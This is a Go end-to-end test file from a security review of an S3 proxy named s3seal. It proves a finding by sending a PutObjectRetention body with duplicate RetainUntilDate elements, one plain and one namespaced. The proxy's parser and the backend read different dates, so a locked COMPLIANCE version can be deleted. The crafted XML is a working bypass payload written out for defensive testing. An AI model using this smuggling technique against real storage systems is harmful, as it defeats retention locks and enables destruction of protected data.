package e2e

// Review s11c (r3): proving tests. A test here that FAILS demonstrates a
// finding against the code at the time of writing; do not "fix" the test.

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/s3"
	"github.com/aws/aws-sdk-go-v2/service/s3/types"
)

// TestReviewS11cRetentionNamespaceSmuggleMoto (FINDING, fails): in front
// of moto (which checks no retention rule; s3seal's retentionRule is the
// only guard) a client with mere write access shortens an unexpired
// COMPLIANCE retention to the past and then deletes the locked version.
// The PutObjectRetention body carries RetainUntilDate twice: a plain one
// in the past and a namespaced one (x:RetainUntilDate) far in the future.
// Go's encoding/xml (checkRetention, retentionRule) matches by local name
// and keeps the last, so s3seal judges an extension and allows it; the
// body is forwarded untouched and moto (xmltodict, qualified names) keeps
// the plain, past date.
func TestReviewS11cRetentionNamespaceSmuggleMoto(t *testing.T) {
	m := startMoto(t)
	p := startS3seal(t, sealOpts{Backend: m})
	c := newSDKClient(t, p.Endpoint, p.AccessKey, p.SecretKey, true)
	ctx := context.Background()
	b := aws.String("vault")
	if _, err := c.CreateBucket(ctx, &s3.CreateBucketInput{Bucket: b, ObjectLockEnabledForBucket: aws.Bool(true)}); err != nil {
		t.Fatal(err)
	}
	until := time.Now().Add(time.Hour).UTC().Truncate(time.Second)
	put, err := c.PutObject(ctx, &s3.PutObjectInput{Bucket: b, Key: aws.String("backup"), Body: strings.NewReader("precious"),
		ObjectLockMode: types.ObjectLockModeCompliance, ObjectLockRetainUntilDate: &until})
	if err != nil {
		t.Fatal(err)
	}
	vid := aws.ToString(put.VersionId)
	// Sanity: an honest shortening is refused.
	past := time.Now().Add(-time.Hour).UTC().Truncate(time.Second)
	sooner := until.Add(-30 * time.Minute)
	_, err = c.PutObjectRetention(ctx, &s3.PutObjectRetentionInput{Bucket: b, Key: aws.String("backup"), VersionId: &vid,
		Retention: &types.ObjectLockRetention{Mode: types.ObjectLockRetentionModeCompliance, RetainUntilDate: &sooner}})
	wantStatus(t, "honest shortening", err, 403, "AccessDenied")

	body := []byte(`<Retention xmlns="http://s3.amazonaws.com/doc/2006-03-01/"><Mode>COMPLIANCE</Mode>` +
		`<RetainUntilDate>` + past.Format(time.RFC3339) + `</RetainUntilDate>` +
		`<x:RetainUntilDate xmlns:x="urn:x">2099-01-01T00:00:00Z</x:RetainUntilDate></Retention>`)
	sum := sha256.Sum256(body)
	rs := newRawSigner(t, p)
	req, _ := rs.signedPut("/vault/backup?retention=&versionId="+vid, http.Header{"Content-Type": {"application/xml"}},
		hex.EncodeToString(sum[:]), int64(len(body)), time.Now())
	r := rs.send(req, body)
	t.Logf("smuggled PutObjectRetention: %d %s", r.Status, r.Body)
	ret, err := c.GetObjectRetention(ctx, &s3.GetObjectRetentionInput{Bucket: b, Key: aws.String("backup"), VersionId: &vid})
	if err == nil {
		t.Logf("retention now: %s until %v", ret.Retention.Mode, aws.ToTime(ret.Retention.RetainUntilDate))
	}
	_, err = c.DeleteObject(ctx, &s3.DeleteObjectInput{Bucket: b, Key: aws.String("backup"), VersionId: &vid})
	if err == nil {
		if _, herr := c.HeadObject(ctx, &s3.HeadObjectInput{Bucket: b, Key: aws.String("backup"), VersionId: &vid}); herr != nil {
			t.Fatalf("COMPLIANCE version (until %v) deleted through s3seal after a smuggled retention (PUT answered %d); HEAD now: %v", until, r.Status, herr)
		}
	}
	t.Logf("delete refused as it should be: %v", err)
}
